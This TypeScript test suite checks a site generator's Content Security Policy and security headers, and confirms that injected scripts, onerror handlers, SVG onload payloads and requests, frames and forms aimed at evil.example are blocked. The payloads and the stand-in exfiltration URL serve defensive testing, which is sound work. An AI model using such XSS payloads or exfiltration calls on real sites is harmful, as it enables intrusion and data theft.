import { createHash } from "node:crypto";
import { describe, expect, inject, test } from "vitest";
import { complaintsOf, visit } from "../visit";
import { builtFiles, pathOfFile } from "./builtFiles";
import { serveOwnSite } from "./ownSite";
import { readConfig } from "./pages";

const sites = inject("sites");
const folders = inject("folders");
const serviceUrl = inject("serviceUrl");

const pages = (["demo", "harbour", "subPath", "minimal", "services"] as const).flatMap((site) =>
  builtFiles(folders[site], ".html").map((file) => ({ site, ...file })),
);

describe.each(pages)("$site $path", ({ site, path, text }) => {
  const policy = unescapeHtml(
    /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(text)?.[1] ?? "",
  );

  test("has a policy, and its response an equivalent one", async () => {
    // The policy comes before everything that it governs.
    expect(text.indexOf("Content-Security-Policy")).toBeLessThan(
      Math.min(text.indexOf("<style"), text.indexOf("<script"), text.indexOf("<link")),
    );
    const address = pathOfFile(path).slice(1);
    for (const spelling of new Set([address, address.replace(/\/$/, "")])) {
      const { headers } = await fetch(sites[site] + spelling);
      const answered = parsePolicy(headers.get("content-security-policy") ?? "");
      for (const [name, sources] of Object.entries(parsePolicy(policy))) {
        // Each page names its own styles.
        const needed = ["default-src", "style-src"].includes(name) ? undefined : sources.toSorted();
        // A drawing in public/ may embed pictures even if no page does.
        const forFiles = (source: string) => source === "data:" && !sources.includes(source);
        const allowed = answered[name]?.filter((source) => !forFiles(source)).toSorted();
        expect(allowed, `${spelling} ${name}`).toEqual(needed);
      }
      expect(answered).toMatchObject({ "frame-ancestors": ["'none'"], "trusted-types": ["'none'"] });
    }
  });

  test("allows its own scripts, inline styles by hash, and external origins from the config", () => {
    const directives = parsePolicy(policy);
    expect(policy).not.toMatch(/unsafe-|\*|https?:(?=[ ;]|$)/);
    expect(directives["default-src"]).toEqual(["'none'"]);
    // A page opened by client-side navigation has the policy of the first page, and its own stylesheet.
    const sheets = builtFiles(folders[site], ".css");
    const embeds = sheets.some((sheet) => sheet.text.includes('url("data:'));
    expect(directives["img-src"]?.includes("data:")).toBe(embeds);
    // The script that loads the others. Data is not a script.
    const scripts = [...text.matchAll(/<script(?: data-[a-z]+="[^"]*")*>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBe(1);
    expect(directives["script-src"]).toEqual(["'self'", ...scripts.map(([, script = ""]) => hash(script))]);
    expect(directives["base-uri"]).toEqual(["'none'"]);
    expect(directives["object-src"] ?? directives["default-src"]).toEqual(["'none'"]);

    const styles = [...text.matchAll(/<style[^>]*>(.*?)<\/style>/gs)].map(([, css = ""]) => hash(css));
    expect(styles.length).toBeGreaterThan(0);
    expect(directives["style-src"]?.toSorted()).toEqual(["'self'", ...styles].toSorted());

    const named = originsOf(site);
    const foreign = Object.values(directives)
      .flat()
      .filter((source) => /^https?:/.test(source));
    expect(foreign.filter((origin) => !named.has(origin))).toEqual([]);
  });
});

describe("the response headers", () => {
  test.each(["demo", "harbour", "subPath"] as const)("of %s protect every kind of file", async (site) => {
    for (const path of ["", "404.html", "page.json", "favicon.svg", "no/such/page"]) {
      const { headers } = await fetch(sites[site] + path);
      expect(Object.fromEntries(headers), path).toMatchObject({
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "strict-origin-when-cross-origin",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-site",
        "strict-transport-security": expect.stringMatching(/^max-age=\d{8,}/) as string,
        "permissions-policy": expect.stringContaining("camera=()") as string,
      });
    }
  });
});

describe("the policy at work", () => {
  const violation = [
    /^console error: (?:CSP: |.*Content Security Policy|.*requires 'Trusted|.*'trusted-types|.*"trusted-types)/i,
  ];

  test("blocks foreign styles and pictures, and text that would become a script", async () => {
    const page = await visit(sites.demo, { allowedErrors: violation });
    const { refused, blocked } = await page.evaluate(async () => {
      // The policy is in both the page and the response, so each violation is reported twice.
      const seen = new Set<string>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        seen.add(`${effectiveDirective} ${blockedURI}`);
      });
      const element = (name: string) => document.body.appendChild(document.createElement(name));
      const attempts: Record<string, () => unknown> = {
        "a script's text": () => (element("script").textContent = "window.__pwned = 'script'"),
        "a script's address": () =>
          ((element("script") as HTMLScriptElement).src = "https://evil.example/a.js"),
        HTML: () => document.body.insertAdjacentHTML("beforeend", '<img src onerror="window.__pwned = 1">'),
        "a frame's HTML": () => ((element("iframe") as HTMLIFrameElement).srcdoc = "<p>"),
        "a policy of its own": () =>
          (
            window as unknown as { trustedTypes: { createPolicy: (name: string) => unknown } }
          ).trustedTypes.createPolicy("mine"),
      };
      const refused = Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
      element("style").textContent = "h1 { display: none }";
      const styled = element("p");
      styled.id = "styled";
      styled.setAttribute("style", "position: fixed");
      (element("img") as HTMLImageElement).src = "https://evil.example/pixel.gif";
      while (
        !["img-src", "style-src-attr", "style-src-elem"].every((name) => [...seen].join().includes(name))
      )
        await new Promise((resolve) => setTimeout(resolve, 20));
      return { refused, blocked: [...seen].toSorted() };
    });
    expect(refused).toEqual([
      "a script's text",
      "a script's address",
      "HTML",
      "a frame's HTML",
      "a policy of its own",
    ]);
    expect(blocked).toEqual(
      expect.arrayContaining([
        "img-src https://evil.example/pixel.gif",
        "style-src-attr inline",
        "style-src-elem inline",
        "require-trusted-types-for trusted-types-sink",
      ]),
    );
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(await page.getByRole("heading", { level: 1 }).isVisible()).toBe(true);
    expect(await page.locator("#styled").evaluate((element) => getComputedStyle(element).position)).toBe(
      "static",
    );
    expect(complaintsOf(page)).toEqual([]);
  });

  test("applies to public/: SVG and HTML files are shown without running scripts", async () => {
    const small = {
      version: 1,
      site: { name: "Moss", logo: "/drawing.svg", trustedFiles: ["/own.html"] },
      routes: [{ path: "/", title: "Home" }],
    };
    const script = "<script>document.documentElement.id = 'pwned'</script>";
    const { url } = await serveOwnSite(small, {
      "drawing.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.id = 'pwned'"><style>rect { fill: red }</style>${script}<rect width="9" height="9"/></svg>`,
      "own.html": `<!doctype html><title>Own</title>${script}<p onclick="document.documentElement.id = 'pwned'">Text</p>`,
    });
    for (const [name, element] of [
      ["drawing.svg", "rect"],
      ["own.html", "p"],
    ] as const) {
      const page = await visit(url + name, { allowedErrors: violation, comesToLife: false });
      await page.locator(element).dispatchEvent("click");
      expect(await page.evaluate(() => document.documentElement.id), name).toBe("");
      if (name === "drawing.svg")
        expect(await page.locator(element).evaluate((one) => getComputedStyle(one).fill)).toBe(
          "rgb(255, 0, 0)",
        );
    }
  });

  test("blocks requests, frames and forms to other sites", async () => {
    const page = await visit(sites.demo, { allowedErrors: violation });
    const refused = await page.evaluate(async () => {
      const fetched = await Promise.all(
        ["https://evil.example/collect", "data:text/plain,x"].map((url) =>
          fetch(url, { mode: "no-cors" }).then(
            () => `${url} was fetched`,
            () => "refused",
          ),
        ),
      );
      const violated = (directive: string, attempt: () => void) =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            if (effectiveDirective === directive) resolve(directive);
          });
          attempt();
        });
      const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, keys: object) =>
        document.body.appendChild(Object.assign(document.createElement(name), keys));
      const framed = await violated("frame-src", () => add("iframe", { src: "https://evil.example/" }));
      const sent = await violated("form-action", () =>
        add("form", { action: "https://evil.example/", method: "post" }).requestSubmit(),
      );
      return [...fetched, framed, sent];
    });
    expect(refused).toEqual(["refused", "refused", "frame-src", "form-action"]);
    expect(page.url()).toBe(sites.demo);
  });
});

/** All origins in a config. */
function originsOf(site: (typeof pages)[number]["site"]): Set<string> {
  if (site === "minimal") return new Set();
  const text =
    site === "services"
      ? `${serviceUrl} https://chart.example`
      : JSON.stringify(readConfig(site === "subPath" ? "demo" : site));
  const origins = new Set(text.match(/https?:\/\/[\w.:-]+/g));
  if (site === "services") origins.add(refusedOrigin());
  return origins;
}

/** Only the config of the services site contains the address without a server. */
function refusedOrigin(): string {
  const { text } = builtFiles(folders.services, "page.json").find(({ path }) => path.startsWith("refused"))!;
  return /"url":"(http:\/\/127\.0\.0\.1:\d+)/.exec(text)![1]!;
}

function parsePolicy(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy.split("; ").map((directive) => {
      const [name = "", ...sources] = directive.split(" ");
      return [name, sources];
    }),
  );
}

function hash(text: string): string {
  return `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
}

function unescapeHtml(text: string): string {
  return text.replaceAll("&#x27;", "'").replaceAll("&quot;", '"').replaceAll("&amp;", "&");
}
